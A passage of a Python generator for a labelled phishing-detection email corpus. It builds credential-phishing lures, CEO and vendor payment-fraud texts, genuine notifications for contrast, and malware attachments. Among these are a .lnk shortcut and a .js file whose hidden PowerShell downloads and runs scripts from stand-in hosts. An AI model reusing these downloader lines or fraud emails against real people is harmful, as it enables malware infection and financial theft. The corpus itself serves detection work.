         vps_kit("91.215.85.14", "mail.mailsecure-halkroll.de", "RU", dkim_d=None, dkim="none", dmarc="none",
                 compauth="fail reason=001"),
         "Microsoft Outlook <no-reply@mailsecure-halkroll.de>", [addr("wiechers")],
         "Spam-Benachrichtigung: 3 Nachrichten wurden zurückgehalten", alt(name, plain, html, "php"),
         lang="de", scl=6, cat="SPM")

    # 41 -- "Unusual sign-in activity" lookalike
    name = "b13-phish-unusual-signin-firebase"
    rcpt = P["kroll"][1]
    url = f"https://account-live-security.web.app/?login={rcpt}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:540px"><p style="color:#707070">Microsoft '
        'account</p><p style="font-size:38px;color:#2672ec;margin:0">Unusual sign-in activity</p><p>We detected '
        f'something unusual about a recent sign-in to the Microsoft account <b>{rcpt}</b>.</p>'
        '<p><b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 95.173.136.70<br>Date: '
        '17/12/2024 05:24 (GMT)<br>Platform: Windows<br>Browser: Firefox</p><p>Please go to your recent activity '
        'page to let us know whether or not this was you.</p>'
        f'{button(url, "Review recent activity", "#2672ec")}<p>Thanks,<br>The Microsoft account team</p></div>')
    plain = (f"Unusual sign-in activity\n\nWe detected something unusual about a recent sign-in to the Microsoft account "
             f"{rcpt}.\n\nCountry/region: Russia/Moscow\nIP address: 95.173.136.70\n\nReview recent activity: {url}\n")
    emit(cat, name, "'Unusual sign-in activity' alert lookalike from account-security-noreply.com through SES "
         "(Microsoft sends these from account.microsoft.com addresses about personal accounts, not work ones); "
         "'Review recent activity' opens a Firebase web.app page",
         "2024-12-17 05:31:10 +0000",
         ses("54.240.48.93", "account-security-noreply.com", "US", dkim_d="account-security-noreply.com",
             dmarc="bestguesspass", compauth="pass reason=109"),
         "Microsoft account team <no-reply@account-security-noreply.com>", [addr("kroll")],
         "Microsoft account unusual sign-in activity", alt(name, plain, html, "ses"))

    # 42 -- Teams "missed chat" lookalike
    name = "b13-phish-teams-missed-chat-pages-dev"
    rcpt = P["luettmann"][1]
    url = f"https://teams-microsoft.chat-view.pages.dev/?tenant=halkroll&u={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:520px;border:1px solid #e1dfdd;padding:24px">'
        '<p style="color:#6264a7;font-size:18px"><b>Microsoft Teams</b></p><p style="font-size:18px">You have 2 '
        'missed messages from Dennis Albers</p><p style="background:#f5f5f5;padding:12px">Dennis Albers: &bdquo;Kai, '
        'kannst du dir das kurz ansehen? Betrifft den Firewall-Change heute Abend.&ldquo;</p>'
        f'{button(url, "Reply in Teams", "#6264a7")}<p style="font-size:11px;color:#888">You\'re receiving this '
        'because you have notifications turned on.</p></div>')
    plain = (f"You have 2 missed messages from Dennis Albers\n\nDennis Albers: Kai, kannst du dir das kurz ansehen? "
             f"Betrifft den Firewall-Change heute Abend.\n\nReply in Teams: {url}\n")
    emit(cat, name, "Teams missed-chat lookalike quoting the head of IT, from teams-mail-notify.com (Teams mails "
         "from email.teams.microsoft.com and links to teams.microsoft.com); Reply goes to a Cloudflare pages.dev "
         "site with the admin's address",
         "2026-02-10 12:07:33 +0100",
         vps_kit("185.196.10.52", "mail.teams-mail-notify.com", "CH", dkim_d="teams-mail-notify.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "Microsoft Teams <noreply@teams-mail-notify.com>", [addr("luettmann")],
         "You have 2 missed messages from Dennis Albers", alt(name, plain, html, "php"))

    # 43 -- Vendor email compromise: new bank details from a lookalike supplier domain, thread hijack
    name = "b13-phish-vendor-bank-change-lookalike"
    plain = (
        "Hallo Frau Wiechers,\n\nvielen Dank für die Rückmeldung. Bitte beachten Sie, dass wir zum 01.03. unsere "
        "Hausbank gewechselt haben. Die offenen Posten (RE 24-10877, 24-10912, 24-11034, gesamt 48.215,60 EUR) "
        "bitten wir ab sofort ausschließlich auf unser neues Konto zu überweisen:\n\n"
        "Kontoinhaber: Westfalen Stahlhandel GmbH\nIBAN: LT72 3250 0247 1938 2045\nBIC: REVOLT21\n\n"
        "Das bisherige Konto bei der Sparkasse wird in Kürze geschlossen, Zahlungen dorthin können nicht mehr "
        "zugeordnet werden. Bitte bestätigen Sie mir kurz per E-Mail die Umstellung in Ihrem System; telefonisch "
        "bin ich diese Woche leider schlecht erreichbar.\n\nMit freundlichen Grüßen\n\nKatrin Lübbers\n"
        "Buchhaltung / Debitoren\nWestfalen Stahlhandel GmbH\nHafenstraße 41, 33098 Paderborn\n\n"
        "-----Ursprüngliche Nachricht-----\nVon: Jana Wiechers <j.wiechers@halkroll.de>\nGesendet: Montag, "
        "18. März 2024 15:02\nAn: Katrin Lübbers <k.luebbers@wf-stahlhandel.de>\nBetreff: AW: Offene Posten / "
        "Zahlungslauf KW 12\n\nHallo Frau Lübbers,\n\ndie drei Rechnungen sind für den Zahlungslauf am Donnerstag "
        "vorgesehen.\n\nViele Grüße\nJana Wiechers\n")
    html_body = paras(plain)
    emit(cat, name, "Vendor-email compromise without a link: reply in a real AP thread from wf-stahihandel.de, a "
         "lookalike of the steel supplier's wf-stahlhandel.de (l -> i) visible in the quoted header, announcing a "
         "new IBAN at a Lithuanian fintech and asking for email-only confirmation",
         "2024-03-19 10:22:47 +0100",
         Sender("postfix", "94.130.183.70", "mail.wf-stahihandel.de", "DE", dkim_d="wf-stahihandel.de",
                selector="mail", client="static.89.160.41.5.clients.your-server.de", client_ip="5.41.160.89",
                mailer="X-Mailer: Microsoft Outlook 16.0"),
         '"Katrin Lübbers" <k.luebbers@wf-stahihandel.de>', [addr("wiechers")],
         "AW: Offene Posten / Zahlungslauf KW 12", outlook_alt(name, plain, html_body), lang="de",
         in_reply_to=f"<FR2P281MB1734{h(name, 'irt', 20).upper()}@FR2P281MB1734.DEUP281.PROD.OUTLOOK.COM>")

    # 44 -- CEO fraud: gift cards from a freemail address (German)
    name = "b13-phish-ceo-gift-cards-gmail"
    plain = ("Hallo Julia,\n\nbist du gerade am Platz? Ich sitze im Termin beim Kunden und kann nicht telefonieren.\n\n"
             "Ich möchte ein paar Geschäftspartner zum Jahresende mit Gutscheinen überraschen. Kannst du bitte "
             "8 Apple-Gift-Cards à 100 EUR besorgen (Media Markt oder online) und mir dann Fotos der Rückseiten mit "
             "den freigerubbelten Codes hier schicken? Die Kosten bekommst du natürlich erstattet.\n\nBitte behandle "
             "das vertraulich, es soll eine Überraschung sein.\n\nDanke dir\nMatthias\n\nVon meinem iPhone gesendet\n")
    emit(cat, name, "CEO gift-card fraud with no link: the CEO's name on a gmail.com address asks his assistant "
         "in German for eight Apple gift cards and photos of the codes, with urgency, secrecy and 'cannot phone'",
         "2024-11-29 14:36:50 +0100", gmail_sender("209.85.221.49", "mail-wr1-f49.google.com", dkim_d="gmail.com"),
         "Matthias Kroll <matthias.kroll.gf@gmail.com>", [addr("korte")], "Kurze Frage", text(plain), lang="de")

    # 45 -- CEO fraud: wire transfer from a lookalike of the company domain
    name = "b13-phish-ceo-wire-lookalike-domain"
    plain = ("Hallo Sabine,\n\nwie besprochen befinden wir uns in der finalen Phase der Übernahme eines Wettbewerbers "
             "(Projekt „Nordlicht“). Bis zur offiziellen Bekanntgabe gilt strikte Vertraulichkeit, bitte sprich "
             "mit niemandem im Haus darüber, auch nicht mit der Bank.\n\nDr. Reinhardt von der Kanzlei Reinhardt & "
             "Vos wird sich heute bei dir melden. Für die Sicherheitsleistung benötigen wir noch heute eine "
             "Überweisung von 186.400,00 EUR auf das Treuhandkonto der Kanzlei:\n\nEmpfänger: RV Escrow Services Lda\n"
             "IBAN: PT50 0033 0000 4571 2298 1630 5\nVerwendungszweck: Nordlicht Deposit 0417\n\n"
             "Bitte gib mir kurz Bescheid, sobald die Zahlung raus ist. Ich bin den ganzen Tag in Gesprächen und "
             "nur per Mail erreichbar.\n\nBeste Grüße\nMatthias\n")
    emit(cat, name, "CEO wire fraud in German without a link, from halkroll-gmbh.com (lookalike of halkroll.de) "
         "with a Reply-To on proton.me: a confidential acquisition, a lawyer, a same-day 186,400 EUR transfer to "
         "a Portuguese escrow IBAN, 'only reachable by mail'",
         "2025-04-17 15:52:08 +0200",
         vps_kit("45.137.21.9", "mail.halkroll-gmbh.com", "NL", dkim_d="halkroll-gmbh.com", dmarc="pass",
                 mailer=""),
         "Matthias Kroll <m.kroll@halkroll-gmbh.com>", [addr("halvorsen")],
         "Vertraulich: Projekt Nordlicht – Überweisung heute", text(plain), lang="de",
         reply_to="Matthias Kroll <mkroll.office@proton.me>")

    # 46 -- W-9 request
    name = "b13-phish-w9-vendor-onboarding"
    rcpt = P["grant"][1]
    url = f"https://w9-vendor-forms.docsend-portal.online/irs/w9?v=HK&u={b64(rcpt)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:14px;max-width:560px"><p>Hello Oliver,</p><p>Thank you '
        'for the quotation for the sortation line. Before we can release the purchase order and the first '
        'payment, our AP team requires a completed <b>IRS Form W-9</b> for Halvorsen &amp; Kroll.</p><p>Please '
        'complete it through our secure vendor portal (sign in with your company email to verify):</p>'
        f'<p><a href="{url}">Complete Form W-9 (Rev. March 2024)</a></p><p>Best regards,<br>Vendor Onboarding<br>'
        'Great Lakes Conveyor Inc.<br>Toledo, OH</p></div>')
    plain = ("Hello Oliver,\n\nBefore we can release the purchase order and the first payment, our AP team requires a "
             "completed IRS Form W-9 for Halvorsen & Kroll. Please complete it through our secure vendor portal "
             f"(sign in with your company email to verify):\n{url}\n\nBest regards,\nVendor Onboarding\n"
             "Great Lakes Conveyor Inc.\n")
    mailgun = Sender("esp", "159.135.224.88", "m224-88.mailgun.net", "US", dkim_d="greatlakes-conveyors.us",
                     selector="pic", host="mailgun.net", dmarc="bestguesspass", compauth="pass reason=109",
                     esp_headers=[f"X-Mailgun-Sid: {b64s(name, 'mg', 40)}", "X-Mailgun-Sending-Ip: 159.135.224.88"])
    emit(cat, name, "W-9 'vendor onboarding' from a newly registered .us domain (no prior contact, a German "
         "company has no W-9 to give): the 'secure vendor portal' is on docsend-portal.online and asks for the "
         "company email login",
         "2025-01-21 09:13:42 -0500", mailgun,
         '"Great Lakes Conveyor Inc. - Accounts Payable" <vendor.onboarding@greatlakes-conveyors.us>', [addr("grant")],
         "Vendor setup: W-9 form required before first payment", alt(name, plain, html, "gen"))

    # 47 -- Maersk bill of lading with an ISO holding an executable
    name = "b13-phish-maersk-bl-iso-exe"
    iso = files.iso_image([("MAEU238814552_BL_Draft.exe", files.pe_stub())], "MAEU238814552")
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:13px"><p style="color:#42b0d5;font-size:20px"><b>MAERSK'
        '</b></p><p>Dear Customer,</p><p>Please find attached the draft Bill of Lading for booking 238814552 '
        '(vessel MAERSK KENSINGTON, POL Hamburg, POD Charleston). Kindly check and confirm before the documentation '
        'cut-off today 16:00 to avoid amendment fees.</p><p>Best regards,<br>Maersk Customer Service<br>'
        'Documentation Team</p></div>')
    plain = ("Dear Customer,\n\nPlease find attached the draft Bill of Lading for booking 238814552 (vessel MAERSK "
             "KENSINGTON, POL Hamburg, POD Charleston). Kindly check and confirm before the documentation cut-off "
             "today 16:00 to avoid amendment fees.\n\nBest regards,\nMaersk Customer Service\n")
    body = mixed(name, [alt(name, plain, html, "php"),
                        attachment("application/x-iso9660-image", "MAEU238814552_BL_Draft.iso", iso)], "php")
    emit("malware", name, "Maersk bill-of-lading lookalike from maersk-line-docs.com (Maersk is maersk.com) with an "
         "ISO disc image whose only file is a Windows executable named like the B/L draft, the 2023 loader "
         "delivery shape",
         "2023-07-11 09:25:00 +0200",
         vps_kit("185.222.58.121", "mail.maersk-line-docs.com", "NL", dkim_d=None, dkim="none", dmarc="none",
                 compauth="fail reason=001"),
         "Maersk Line Documentation <documentation@maersk-line-docs.com>", [addr("rohde")],
         "Maersk: Bill of Lading draft MAEU238814552 – please confirm before cutoff", body, scl=5, cat="SPM")

    # 48 -- DHL customs with an IMG holding a shortcut (German)
    name = "b13-phish-dhl-zoll-img-lnk"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                             "/c start /min powershell -w hidden -ep bypass -c \"iwr "
                             "https://cdn-dhl-docs.qxvz.top/z.ps1 -UseBasicParsing | iex\"")
    img = files.iso_image([("Zolldokumente_AWB4820193746.pdf.lnk", lnk)], "DHL_ZOLL")
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:13px;max-width:560px"><div style="background:#ffcc00;'
        'padding:12px"><b style="color:#d40511;font-size:20px">DHL</b> EXPRESS</div><p>Sehr geehrte Kundin, sehr '
        'geehrter Kunde,</p><p>Ihre Sendung mit der Luftfrachtbriefnummer <b>4820193746</b> wurde vom Zoll '
        'angehalten. Für die Einfuhrabfertigung benötigen wir die beigefügten Zolldokumente unterschrieben '
        'zurück. Bitte öffnen Sie die Anlage und bestätigen Sie die Angaben innerhalb von 48 Stunden, andernfalls '
        'wird die Sendung an den Absender zurückgeschickt.</p><p>Mit freundlichen Grüßen<br>DHL Express '
        'Zollabteilung</p></div>', "de")
    plain = ("Sehr geehrte Kundin, sehr geehrter Kunde,\n\nIhre Sendung mit der Luftfrachtbriefnummer 4820193746 wurde "
             "vom Zoll angehalten. Bitte öffnen Sie die beigefügten Zolldokumente und bestätigen Sie die Angaben "
             "innerhalb von 48 Stunden.\n\nMit freundlichen Grüßen\nDHL Express Zollabteilung\n")
    body = mixed(name, [alt(name, plain, html, "php"),
                        attachment("application/octet-stream", "DHL_Zolldokumente_AWB4820193746.img", img)], "php")
    emit("malware", name, "German DHL customs lookalike from dhl-zoll-service.com with an .img disc image holding a "
         "'.pdf.lnk' shortcut that starts hidden PowerShell to download and run a script from a .top host",
         "2024-06-25 10:44:13 +0200",
         vps_kit("77.105.135.22", "mail.dhl-zoll-service.com", "DE", dkim_d="dhl-zoll-service.com",
                 dmarc="bestguesspass", compauth="pass reason=109"),
         "DHL Express Zollabteilung <zoll@dhl-zoll-service.com>", [addr("nowak")],
         "DHL Express: Zollabfertigung erforderlich – AWB 4820193746", body, lang="de")

    # 49 -- Kuehne+Nagel shipping documents with a ZIP holding a JScript downloader
    name = "b13-phish-kuehne-nagel-zip-js"
    js = ('// Commercial invoice viewer\r\n'
          'var sh = new ActiveXObject("WScript.Shell");\r\n'
          'var p = "powershell -nop -w hidden -c \\"$u=\'https://kn-docs.vtrq.xyz/inv/\'+$env:USERNAME;'
          'iex (New-Object Net.WebClient).DownloadString($u)\\"";\r\n'
          'sh.Run(p, 0, false);\r\n').encode()
    archive = files.zip_archive([("Commercial_Invoice_PackingList_DEHAM2508113.js", js)])
    body_html = paras("Dear Sir/Madam,\n\nPlease find attached the commercial invoice and packing list for HBL "
                      "DEHAM2508113 (FCL 1x40'HC, Hamburg - Shanghai). The original documents must be confirmed "
                      "before vessel departure.\n\nKind regards") + signature_block(
        ["Kuehne+Nagel Sea Logistics", "Export Documentation Hamburg"])
    plain = ("Dear Sir/Madam,\n\nPlease find attached the commercial invoice and packing list for HBL DEHAM2508113 "
             "(FCL 1x40'HC, Hamburg - Shanghai). The original documents must be confirmed before vessel departure."
             "\n\nKind regards\nKuehne+Nagel Sea Logistics\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/x-zip-compressed", "KN_HBL_DEHAM2508113_Docs.zip", archive)])
    emit("malware", name, "Kuehne+Nagel shipping-documents lookalike from kuehne-nagel-de.com (the forwarder is "
         "kuehne-nagel.com) with a ZIP whose 'commercial invoice' is a .js file that runs hidden PowerShell to "
         "fetch and execute a payload",
         "2025-08-05 11:02:36 +0200",
         vps_kit("103.195.100.17", "mail.kuehne-nagel-de.com", "HK", dkim_d="kuehne-nagel-de.com",
                 dmarc="bestguesspass", compauth="pass reason=109",
                 mailer="X-Mailer: Microsoft Outlook 16.0"),
         "Kuehne+Nagel Sea Logistics <kn.sealogistics@kuehne-nagel-de.com>", [addr("versand")],
         "Shipment Notification HBL DEHAM2508113 – Commercial Invoice & Packing List", body, scl=5, cat="SPM")

    # 50 -- fake security-awareness training reminder
    name = "b13-phish-fake-knowbe4-training-reminder"
    rcpt = P["demir"][1]
    url = f"https://training.knowbe4-training.com/ui/login?email={rcpt}&r={h(name, 'r', 12)}"
    html = html_page(
        '<div style="font-family:Arial,sans-serif;font-size:14px;max-width:560px"><p style="font-size:20px;'
        'color:#e35205"><b>KnowBe4</b></p><p>Hello Aylin,</p><p>This is a reminder that your assigned training '
        '<b>2025 Security Awareness Training</b> is due in 2 days. Incomplete training is reported to your '
        'manager and IT.</p><p>To start, sign in with your Microsoft 365 account:</p>'
        f'{button(url, "Start Training", "#e35205")}<p>Thank you for helping keep Halvorsen &amp; Kroll secure.</p>'
        '</div>')
    plain = ("Hello Aylin,\n\nThis is a reminder that your assigned training 2025 Security Awareness Training is due in "
             f"2 days. To start, sign in with your Microsoft 365 account:\n{url}\n")
    emit(cat, name, "Fake KnowBe4 training reminder from knowbe4-training.com (KnowBe4 uses knowbe4.com) whose "
         "Start Training link asks for the Microsoft 365 password on the lookalike domain, a week after the "
         "real reminder",
         "2025-10-21 08:00:12 +0200",
         ses("54.240.27.66", "knowbe4-training.com", "US", dkim_d="knowbe4-training.com", dmarc="bestguesspass",
             compauth="pass reason=109"),
         "KnowBe4 Training <training@knowbe4-training.com>", [addr("demir")],
         "Reminder: Security Awareness Training 2025 due in 2 days", alt(name, plain, html, "ses"))


# ================================================================ legitimate

def iban(country: str, bban: str) -> str:
    """An IBAN with correct check digits, printed in groups of four."""
    digits = "".join(str(int(c, 36)) for c in bban + country + "00")
    check = 98 - int(digits) % 97
    raw = f"{country}{check:02d}{bban}"
    return " ".join(raw[i:i + 4] for i in range(0, len(raw), 4))


def microsoft_sender(ip: str, helo: str, dkim_d: str, ctry: str = "US", **kw) -> Sender:
    return Sender("microsoft", ip, helo, ctry, dkim_d=dkim_d, **kw)


def legitimate() -> None:
    # L01 -- the tenant's real quarantine digest
    name = "b13-bulk-m365-quarantine-digest-real"
    rcpt = P["wiechers"][1]
    held = [("parcel-notice@dhl-paket-info24.top", "Ihr Paket wird zurückgehalten", "15.06.2025 22:41"),
            ("finance@remit-advice.click", "Zahlungsavis Juni / Payment advice", "16.06.2025 01:12"),
            ("buchhaltung@rheda-antriebe.de", "Offene Posten 06/2025", "16.06.2025 03:55")]
    items = ""
    plain_items = ""
    for i, (sender, subject, date) in enumerate(held):
        net = guid(name, f"held{i}")
        review = f"https://security.microsoft.com/quarantine?viewid=Email&networkmessageid={net}"
        items += (
            '<tr><td style="padding:10px 0;border-bottom:1px solid #e1dfdd;font-size:13px">'
            f'<b>Sender:</b> {escape(sender)}<br><b>Subject:</b> {escape(subject)}<br><b>Date:</b> {date}<br>'
            f'<a href="{review}">Review Message</a> &nbsp; <a href="{review}&amp;action=release">Release</a> &nbsp; '
            f'<a href="{review}&amp;action=blocksender">Block Sender</a></td></tr>')
        plain_items += f"Sender: {sender}\nSubject: {subject}\nDate: {date}\nReview Message: {review}\n\n"
    html = html_page(
        '<table width="600" style="font-family:Segoe UI,Arial,sans-serif"><tr><td><p style="font-size:20px">'
        'Review these 3 messages that are being held for you</p><p style="font-size:13px;color:#605e5c">Review '
        'these messages within 30 days of receipt by selecting Review Message. Messages that you do not review '
        f'or release will be deleted automatically. Quarantine notification for {rcpt}.</p></td></tr>'
        f'{items}<tr><td style="padding-top:14px;font-size:13px"><a href="https://security.microsoft.com/quarantine'
        '?viewid=Email">Review all messages in quarantine</a></td></tr><tr><td style="font-size:11px;color:#a19f9d;'
        'padding-top:18px">This is an automated message from Microsoft 365 security. Messages are held in quarantine '
        'according to the policy set by your organization.</td></tr></table>')
    plain = (f"Review these 3 messages that are being held for you\n\nQuarantine notification for {rcpt}.\n\n"
             + plain_items + "Review all messages: https://security.microsoft.com/quarantine?viewid=Email\n")
    emit("clean", name, "Genuine Microsoft 365 quarantine notification from quarantine@messaging.microsoft.com "
         "(authenticated through microsoft.com) listing held messages; every Review/Release link points to "
         "security.microsoft.com, where the user must sign in to the portal",
         "2025-06-16 04:02:11 +0000",
         microsoft_sender("40.107.162.58", "EUR05-AM6-obe.outbound.protection.outlook.com", "microsoft.com",
                          "IE", selector="s1024-meo", host="messaging.microsoft.com"),
         "Microsoft 365 <quarantine@messaging.microsoft.com>", [rcpt],
         "Microsoft 365 security: You have messages in quarantine", alt(name, plain, html, "gen"))

    # L02 -- Teams missed-activity notification
    name = "b13-bulk-teams-missed-message-real"
    chat = f"https://teams.microsoft.com/l/chat/19:{guid(name, 'u1')}_{guid(name, 'u2')}@unq.gbl.spaces/conversations?context=%7B%22contextType%22%3A%22chat%22%7D"
    html = html_page(
        '<table width="560" style="font-family:Segoe UI,Arial,sans-serif"><tr><td style="padding:16px 0">'
        '<b style="color:#5b5fc7">Microsoft Teams</b></td></tr><tr><td><p style="font-size:18px">Tobias Brandt sent '
        'you a message</p><p style="background:#f5f5f5;padding:12px;font-size:14px">„Marek, kommt die Lieferung von '
        'Lippe Verpackung heute noch? Brauche die Kartons für den Versand nach Leeds.“</p>'
        f'<p><a href="{chat}" style="background:#5b5fc7;color:#fff;padding:8px 18px;text-decoration:none">'
        'Reply in Teams</a></p><p style="font-size:11px;color:#8a8886">You\'re receiving this email because you '
        'have unread messages in Teams. <a href="https://teams.microsoft.com/l/settings/notifications">Manage '
        'notifications</a></p><p style="font-size:11px;color:#8a8886">Microsoft Corporation, One Microsoft Way, '
        'Redmond, WA 98052</p></td></tr></table>', "de")
    plain = ("Tobias Brandt sent you a message\n\n„Marek, kommt die Lieferung von Lippe Verpackung heute noch? Brauche "
             f"die Kartons für den Versand nach Leeds.“\n\nReply in Teams: {chat}\n")
    emit("bulk", name, "Genuine Teams missed-message email from noreply@email.teams.microsoft.com about a colleague's "
         "chat; Reply links to teams.microsoft.com only, nothing asks for credentials",
         "2024-10-08 13:22:50 +0200",
         microsoft_sender("40.107.20.82", "EUR02-VI1-obe.outbound.protection.outlook.com",
                          "email.teams.microsoft.com", "IE", host="email.teams.microsoft.com"),
         "Microsoft Teams <noreply@email.teams.microsoft.com>", [addr("nowak")],
         "Tobias Brandt sent you a message", alt(name, plain, html, "gen"))

    # L03 -- SharePoint file share from a colleague (German UI)
    name = "b13-bulk-sharepoint-file-share-real"
    link = f"https://halkroll.sharepoint.com/:x:/s/Einkauf/E{alnum(name, 'sp', 45)}?e={alnum(name, 'e', 6)}"
    html = html_page(
        '<table width="520" style="font-family:Segoe UI,Arial,sans-serif;border:1px solid #edebe9"><tr><td '
        'style="padding:24px"><p style="font-size:20px">Aylin Demir hat eine Datei für Sie freigegeben</p>'
        '<p style="font-size:14px;color:#605e5c">„Hier die Lieferantenbewertung mit den Zahlen aus Q4, bitte bis '
        'Donnerstag durchsehen.“</p><p style="border:1px solid #edebe9;padding:12px">&#128215; '
        f'Lieferantenbewertung_2025.xlsx</p><p><a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 20px;'
        'text-decoration:none">Öffnen</a></p><p style="font-size:11px;color:#a19f9d">Dieser Link funktioniert nur '
        'für die direkten Empfänger dieser Nachricht.</p><p style="font-size:11px;color:#a19f9d"><a '
        'href="https://go.microsoft.com/fwlink/?LinkId=521839">Datenschutzerklärung</a></p></td></tr></table>', "de")
    plain = ("Aylin Demir hat eine Datei für Sie freigegeben\n\n„Hier die Lieferantenbewertung mit den Zahlen aus Q4, "
             f"bitte bis Donnerstag durchsehen.“\n\nLieferantenbewertung_2025.xlsx\nÖffnen: {link}\n")
    emit("bulk", name, "Genuine SharePoint sharing notification (German) sent by Microsoft from "
         "no-reply@sharepointonline.com on behalf of a colleague; the link is on the company's own "
         "halkroll.sharepoint.com tenant",
         "2025-02-04 10:18:40 +0100",
         microsoft_sender("40.107.22.133", "EUR03-AM7-obe.outbound.protection.outlook.com", "sharepointonline.com",
                          "NL", host="sharepointonline.com"),
         "Aylin Demir <no-reply@sharepointonline.com>", [addr("brandt")],
         "Aylin Demir hat „Lieferantenbewertung_2025.xlsx“ für Sie freigegeben", alt(name, plain, html, "gen"),
         lang="de")

    # L04 -- OneDrive folder share from a colleague
    name = "b13-bulk-onedrive-folder-share-real"
    link = (f"https://halkroll-my.sharepoint.com/:f:/g/personal/o_grant_halkroll_de/E{alnum(name, 'od', 45)}"
            f"?e={alnum(name, 'e', 6)}")
    html = html_page(
        '<table width="520" style="font-family:Segoe UI,Arial,sans-serif;border:1px solid #edebe9"><tr><td '
        'style="padding:24px"><p style="font-size:20px">Oliver Grant shared a folder with you</p><p style="color:'
        '#605e5c">"Photos from the Leeds site survey - please add yours from Tuesday."</p><p style="border:1px solid '
        f'#edebe9;padding:12px">&#128193; Pennine Foods - Site Survey Photos</p><p><a href="{link}" '
        'style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>'
        '<p style="font-size:11px;color:#a19f9d">This link will work for people in Halvorsen &amp; Kroll '
        'Fördertechnik GmbH.</p></td></tr></table>')
    plain = ('Oliver Grant shared a folder with you\n\n"Photos from the Leeds site survey - please add yours from '
             f'Tuesday."\n\nPennine Foods - Site Survey Photos\nOpen: {link}\n')
    emit("bulk", name, "Genuine OneDrive folder-share notification from no-reply@sharepointonline.com for a "
         "colleague's folder on the company's own halkroll-my.sharepoint.com",
         "2024-05-21 16:40:02 +0100",
         microsoft_sender("40.107.21.70", "EUR05-DB8-obe.outbound.protection.outlook.com", "sharepointonline.com",
                          "IE", host="sharepointonline.com"),
         "Oliver Grant <no-reply@sharepointonline.com>", [addr("hartley")],
         'Oliver Grant shared the folder "Pennine Foods - Site Survey Photos" with you', alt(name, plain, html, "gen"))

    # L05 -- DocuSign from a known customer
    name = "b13-bulk-docusign-known-customer"
    a, acct, er = guid(name, "a"), guid(name, "acct"), guid(name, "er")
    link = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={a}&etti=24&acct={acct}&er={er}"
    code = h(name, "code", 32).upper()
    html = html_page(
        '<table width="640" align="center" style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea"><tr><td '
        'style="padding:24px"><table width="100%" style="background:#1e4ca1;color:#fff"><tr><td style="padding:28px;'
        'text-align:center"><p style="font-size:16px">Amelia Shaw sent you a document to review and sign.</p>'
        f'<a href="{link}" style="background:#ffc820;color:#333;padding:10px 22px;text-decoration:none;font-weight:'
        'bold">REVIEW DOCUMENT</a></td></tr></table><table width="100%" style="background:#fff"><tr><td style="'
        'padding:24px;font-size:14px"><b>Amelia Shaw</b><br>a.shaw@brightwell-logistics.co.uk<br><br>Hi Oliver, as '
        'agreed on Friday, here is the 2025 framework agreement for the Daventry and Swindon sites for signature. '
        'Thanks, Amelia</td></tr></table><p style="font-size:11px;color:#666"><b>Do Not Share This Email</b><br>'
        'This email contains a secure link to Docusign. Please do not share this email, link, or access code with '
        'others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and '
        f'enter the security code:<br>{code}<br><br><b>About Docusign</b><br>Sign documents electronically in just '
        'minutes. It\'s safe, secure, and legally binding.</p></td></tr></table>')
    plain = (f"Amelia Shaw sent you a document to review and sign.\n\nREVIEW DOCUMENT: {link}\n\nHi Oliver, as agreed "
             "on Friday, here is the 2025 framework agreement for the Daventry and Swindon sites for signature. "
             f"Thanks, Amelia\n\nAlternate Signing Method: visit Docusign.com, click 'Access Documents', and enter "
             f"the security code: {code}\n")
    emit("clean", name, "Genuine DocuSign envelope from dse_NA4@docusign.net (DKIM docusign.net) sent by a known "
         "UK customer's contact, with Reply-To to her real address, the link on na4.docusign.net and the "
         "alternate security code",
         "2025-03-26 14:20:05 +0000",
         Sender("esp", "64.207.219.137", "mailsea.docusign.net", "US", dkim_d="docusign.net", selector="s1",
                host="docusign.net"),
         '"Amelia Shaw via Docusign" <dse_NA4@docusign.net>', [addr("grant")],
         "Complete with Docusign: Brightwell_HK_Framework_Agreement_2025.pdf", alt(name, plain, html, "gen"),
         reply_to="Amelia Shaw <a.shaw@brightwell-logistics.co.uk>", bcl=1)

    # L06 -- supplier invoice with PDF
    name = "b13-clean-supplier-invoice-pdf"
    supplier_iban = iban("DE", "48250110" + "0001043217")
    pdf_bytes = files.pdf([
        "Lippe Verpackung GmbH - Am Gewerbepark 7 - 32657 Lemgo", "",
        "Halvorsen & Kroll Fördertechnik GmbH, Buchhaltung, Technologiepark 18, 33100 Paderborn", "",
        "RECHNUNG 2025-30418                         Datum: 09.09.2025",
        "Kunden-Nr.: 20117   Lieferschein: 77120 vom 05.09.2025   Ihre Bestellung: 4500-EK-2291", "",
        "Pos  Artikel                                   Menge     Preis       Betrag",
        "1    Faltkarton 1-wellig 600x400x400 mm        1.200     1,38 EUR    1.656,00 EUR",
        "2    Faltkarton 2-wellig 800x600x500 mm          400     3,12 EUR    1.248,00 EUR",
        "3    Kantenschutzwinkel 50x50x1000 mm           500     0,41 EUR      205,00 EUR", "",
        "Nettobetrag 3.109,00 EUR   USt 19 % 590,71 EUR   Rechnungsbetrag 3.699,71 EUR", "",
        "Zahlbar innerhalb 30 Tagen netto, bei Zahlung innerhalb 10 Tagen 2 % Skonto.",
        f"Sparkasse Lemgo - IBAN {supplier_iban} - BIC WELADED1LEM",
        "USt-IdNr. DE124578903 - Amtsgericht Lemgo HRB 4471"], title="Rechnung 2025-30418")
    plain = ("Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung 2025-30418 zum Lieferschein 77120 "
             "(Ihre Bestellung 4500-EK-2291) als PDF.\n\nMit freundlichen Grüßen\n\nMonika Hanke\nBuchhaltung\n"
             "Lippe Verpackung GmbH\nAm Gewerbepark 7, 32657 Lemgo\nTel. 05261 9470-22\n")
    html = html_page('<div style="font-family:Arial,sans-serif;font-size:10pt">'
